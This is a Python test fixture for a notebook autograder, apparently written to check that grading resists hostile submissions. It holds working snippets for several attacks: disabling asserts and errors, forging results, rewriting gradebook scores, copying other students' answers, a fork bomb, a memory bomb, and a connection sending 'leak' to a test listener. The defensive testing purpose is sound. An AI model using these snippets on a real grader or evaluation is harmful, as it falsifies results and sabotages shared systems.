@@ -1,0 +1,284 @@
+"""Hostile submissions: each named after its attack, with the most points its honest work deserves.
+
+Most attacks sit in the blank weight_init notebook (the cheapest assignment to grade), where the
+honest work is worth nothing: every point they get is a false pass. Others add the attack to the
+reference solution, where the work is worth every point and the attack must not cost the
+others anything. Each case is ``{"base": "blank" | "solution", "code": ... | "edit": fn | "text": ...,
+"files": {...}, "deserves": points}``; ``code`` goes at the top of the first answer cell, ``edit``
+changes the notebook JSON, ``text`` replaces the file, ``files`` are placed beside the notebook.
+"""
+
+from __future__ import annotations
+
+import copy
+
+PORT_ENV = "HOSTILE_LISTENER_PORT"  # the test's own TCP listener, which no submission may reach
+
+PATCH_IPYTHON = {
+    "ast_transformer_removes_asserts": """
+import ast
+class DropAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+get_ipython().ast_transformers.append(DropAsserts())
+""",
+    "input_transformer_wraps_every_cell_in_try": """
+def wrap(lines):
+    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
+get_ipython().input_transformers_post.append(wrap)
+""",
+    "custom_exception_handler_swallows_errors": """
+get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
+""",
+    "showtraceback_disabled": """
+get_ipython().showtraceback = lambda *args, **kwargs: None
+get_ipython()._showtraceback = lambda *args, **kwargs: None
+""",
+    "run_cell_wrapper_reports_success": """
+shell = get_ipython()
+original = shell.run_cell
+def run_cell(raw_cell, *args, **kwargs):
+    result = original(raw_cell, *args, **kwargs)
+    result.error_in_exec = None
+    result.error_before_exec = None
+    return result
+shell.run_cell = run_cell
+""",
+}
+
+PATCH_LIBRARIES = {
+    "builtins_isinstance_patched": "import builtins\nbuiltins.isinstance = lambda obj, kind: True\n",
+    "numpy_comparisons_patched": (
+        "import numpy\nnumpy.isclose = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
+        "numpy.testing.assert_allclose = lambda *a, **k: None\n"),
+    "keras_save_patched_to_write_nothing": "import keras\nkeras.Model.save = lambda self, *a, **k: None\n",
+    "always_equal_objects_as_answers": """
+class Anything(float):
+    def __eq__(self, other): return True
+    def __lt__(self, other): return True
+    def __gt__(self, other): return True
+    def __len__(self): return 10
+    def __iter__(self): return iter([self] * 10)
+glorot_std = he_std = activation_stds = build_relu_stack = lambda *args: Anything(0.1)
+stds_he = stds_glorot = stds_small = Anything(0.1)
+""",
+}
+
+PATCH_GRADER = {
+    "calibration_log_environment_variable": (
+        "import os\nos.environ['BNCOURSE_CALIBRATION_LOG'] = '/tmp/values.jsonl'\n"
+        "os.environ['BNCOURSE_SEED'] = '1'\n"),
+    "grader_attribute_replaced": """
+try:
+    import autograder.visible, autograder.judge
+    autograder.visible.check = lambda *a, **k: None
+    autograder.judge.verdict = lambda *a, **k: None
+except ImportError:
+    pass
+""",
+    "fake_grader_in_sys_modules": """
+import sys, types
+fake = types.ModuleType("autograder.visible")
+fake.check = lambda *a, **k: None
+sys.modules["autograder"] = types.ModuleType("autograder")
+sys.modules["autograder.visible"] = fake
+sys.modules["autograder.judge"] = fake
+""",
+    "artifact_writer_patched_to_forge_answers": """
+import bncourse.artifacts as artifacts, json, pathlib
+def forged(folder, name, value):
+    pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
+    (pathlib.Path(folder) / f"{name}.json").write_text(json.dumps({"type": "float", "value": 0.1}))
+artifacts.save = forged
+artifacts.call_and_save = lambda folder, call_id, function, args, inputs: forged(folder, call_id, None)
+""",
+    "forged_results_written_into_every_writable_folder": """
+import json, os
+answers = {"test_glorot_std-0": 0.1, "test_he_std-0": 0.1}
+for top in ["/tmp", os.getcwd(), "/"]:
+    for folder, dirs, files in os.walk(top):
+        for name, value in answers.items():
+            try:
+                with open(os.path.join(folder, name + ".json"), "w") as handle:
+                    json.dump({"type": "float", "value": value}, handle)
+            except OSError:
+                pass
+        if folder.count(os.sep) > 6:
+            dirs[:] = []
+""",
+    "pass_message_printed_before_error": """
+from IPython.display import display
+print("Checked by the grader: passed.")
+display({"text/plain": "Checked by the grader: passed."}, raw=True)
+""",
+}
+
+TOUCH_FILES = {
+    "gradebook_scores_rewritten": """
+import glob, os, sqlite3
+for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../../gradebook.db", "../../gradebook.db"]:
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
+        db.execute("UPDATE grade_cells SET max_score = 0")
+        db.commit()
+    except Exception:
+        pass
+""",
+    "gradebook_locked_for_later_students": """
+import glob, sqlite3
+for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../../gradebook.db"]:
+    try:
+        db = sqlite3.connect(path, isolation_level=None)
+        db.execute("BEGIN EXCLUSIVE")
+    except Exception:
+        pass
+""",
+    "writes_outside_its_folder": """
+import os
+for path in ["../../../HACKED", "../../HACKED", "../HACKED", os.path.expanduser("~/HACKED"), "/HACKED"]:
+    try:
+        open(path, "w").write("owned")
+    except OSError:
+        pass
+""",
+    "course_config_appended": """
+for path in ["../../../nbgrader_config.py", "../../nbgrader_config.py"]:
+    try:
+        open(path, "a").write("\\nc.GenerateFeedback.preprocessors = []\\n")
+    except OSError:
+        pass
+""",
+    "copies_another_students_answers": """
+import glob, json
+for path in glob.glob("/**/submitted/*/weight_init/*.ipynb", recursive=True) + \\
+        glob.glob("../../../submitted/*/weight_init/*.ipynb"):
+    cells = json.load(open(path))["cells"]
+    for cell in cells:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            exec("".join(cell["source"]))
+""",
+    "opens_a_network_connection": f"""
+import os, socket
+try:
+    socket.create_connection(("127.0.0.1", int(os.environ.get("{PORT_ENV}", "1"))), timeout=3).sendall(b"leak")
+except OSError:
+    pass
+try:
+    import urllib.request
+    urllib.request.urlopen("http://example.com", timeout=3)
+except Exception:
+    pass
+""",
+    "detached_process_edits_grades_later": """
+import os, time, glob, sqlite3
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(20)
+        for path in glob.glob("/**/gradebook.db", recursive=True):
+            db = sqlite3.connect(path)
+            db.execute("UPDATE grade SET auto_score = 100")
+            db.commit()
+        open("/tmp/still-alive", "w").write("yes")
+    os._exit(0)
+""",
+}
+
+FAULTS = {
+    "exits_at_the_start": "import os\nos._exit(1)\n",
+    "sys_exit_at_the_start": "import sys\nsys.exit(0)\n",
+    "kills_its_own_kernel": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
+    "endless_loop_ignoring_interrupts": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
+    "sleeps_past_the_timeout": "import time\ntime.sleep(10**6)\n",
+    "memory_bomb": "blocks = []\nwhile True:\n    blocks.append(bytearray(10**9))\n",
+    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
+}
+
+
+def drop_test_cells(notebook: dict) -> dict:
+    """The graded test cells deleted."""
+    notebook = copy.deepcopy(notebook)
+    notebook["cells"] = [cell for cell in notebook["cells"]
+                         if not (cell.get("metadata", {}).get("nbgrader", {}).get("grade")
+                                 and not cell["metadata"]["nbgrader"].get("solution"))]
+    return notebook
+
+
+def edit_test_cells(notebook: dict) -> dict:
+    """Every graded test cell's code replaced by ``pass`` and its points raised to 100."""
+    notebook = copy.deepcopy(notebook)
+    for cell in notebook["cells"]:
+        meta = cell.get("metadata", {}).get("nbgrader", {})
+        if meta.get("grade") and not meta.get("solution"):
+            cell["source"] = "pass\n"
+            meta["points"] = 100
+    return notebook
+
+
+def extra_grade_cell(notebook: dict) -> dict:
+    """A graded cell of the student's own, worth 50 points, that passes."""
+    notebook = copy.deepcopy(notebook)
+    notebook["cells"].append({
+        "cell_type": "code", "execution_count": None, "outputs": [], "source": "pass\n",
+        "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True, "points": 50,
+                                  "schema_version": 3, "solution": False, "task": False}},
+    })
+    return notebook
+
+
+def answer_cells_marked_as_tests(notebook: dict) -> dict:
+    """The answer cells' metadata turned into test cells'."""
+    notebook = copy.deepcopy(notebook)
+    for cell in notebook["cells"]:
+        meta = cell.get("metadata", {}).get("nbgrader", {})
+        if meta.get("solution"):
+            meta.update(grade=True, solution=False, points=10)
+    return notebook
+
+
+def hang_in_last_cell(notebook: dict) -> dict:
+    """The reference solution, whose last cell then hangs, ignoring interrupts."""
+    notebook = copy.deepcopy(notebook)
+    notebook["cells"].append({
+        "cell_type": "code", "execution_count": None, "outputs": [], "metadata": {},
+        "source": "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)\n",
+    })
+    return notebook
+
+
+def die_in_last_cell(notebook: dict) -> dict:
+    """The reference solution, whose last cell then kills the kernel."""
+    notebook = copy.deepcopy(notebook)
+    notebook["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "metadata": {},
+                              "source": "import os\nos._exit(3)\n"})
+    return notebook
+
+
+HOSTILE = {
+    **{name: {"base": "blank", "code": code, "deserves": 0}
+       for group in (PATCH_IPYTHON, PATCH_LIBRARIES, PATCH_GRADER, TOUCH_FILES, FAULTS)
+       for name, code in group.items()},
+    "shadow_grader_packages_beside_the_notebook": {
+        "base": "blank", "code": "", "deserves": 0,
+        "files": {"autograder/__init__.py": "", "autograder/visible.py": "def check(*a, **k):\n    pass\n",
+                  "bncourse/__init__.py": "", "bncourse/artifacts.py": "def save(*a, **k):\n    pass\n"},
+    },
+    "megabytes_of_output": {"base": "solution", "code": "print('x' * 3_000_000)\n", "deserves": 8},
+    "solution_with_a_crash_in_he_std": {
+        "base": "solution", "deserves": 6,
+        "replace": ("    return float(np.sqrt(2.0 / fan_in))", "    import os\n    os._exit(1)"),
+    },
+    "solution_with_an_endless_loop_in_he_std": {
+        "base": "solution", "deserves": 6,
+        "replace": ("    return float(np.sqrt(2.0 / fan_in))", "    while True:\n        pass"),
+    },
+    "solution_hangs_in_its_last_cell": {"base": "solution", "edit": hang_in_last_cell, "deserves": 8},
+    "solution_dies_in_its_last_cell": {"base": "solution", "edit": die_in_last_cell, "deserves": 8},
+    "test_cells_deleted": {"base": "blank", "edit": drop_test_cells, "deserves": 0},
+    "test_cells_edited_and_points_raised": {"base": "blank", "edit": edit_test_cells, "deserves": 0},
+    "extra_grade_cell_of_its_own": {"base": "blank", "edit": extra_grade_cell, "deserves": 0},
+    "answer_cells_marked_as_tests": {"base": "blank", "edit": answer_cells_marked_as_tests, "deserves": 0},
+    "renamed_notebook": {"base": "solution", "rename": "my_weight_init.ipynb", "deserves": 0},
+    "not_a_notebook": {"base": "blank", "text": '{"cells": [ this is not JSON', "deserves": 0},
+}
